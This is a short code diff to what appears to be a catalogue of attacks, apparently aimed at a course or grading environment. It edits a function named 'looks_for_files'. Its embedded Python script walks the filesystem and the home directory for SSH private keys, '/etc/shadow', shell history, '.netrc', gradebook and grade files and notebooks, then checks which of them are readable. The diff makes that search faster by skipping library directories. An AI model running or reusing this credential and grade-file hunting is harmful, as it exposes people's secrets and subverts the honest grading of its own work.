@@ -15,15 +15,17 @@ def before(course, text):
 
 @attack(status=SLOW, softmax=3, discounted_return=2)
 def looks_for_files(course):
+    """Not where libraries are: tens of thousands of files, and none of a person."""
     return before(
         course,
         """
 import os
 wanted = ("gradebook.db", "secret", "shadow", "id_rsa", ".bash_history", "grades.csv", ".netrc")
+libraries = ("/proc", "/sys", "/site", "/usr/lib", os.path.dirname(os.path.dirname(os.__file__)))
 found = []
 for top in ("/", os.path.expanduser("~")):
     for folder, folders, names in os.walk(top):
-        folders[:] = [f for f in folders if f not in ("proc", "sys", "site", "dist-packages")]
+        folders[:] = [f for f in folders if os.path.join(folder, f) not in libraries]
         found += [os.path.join(folder, n) for n in names if n in wanted or n.endswith(".ipynb")]
 readable = []
 for path in found:
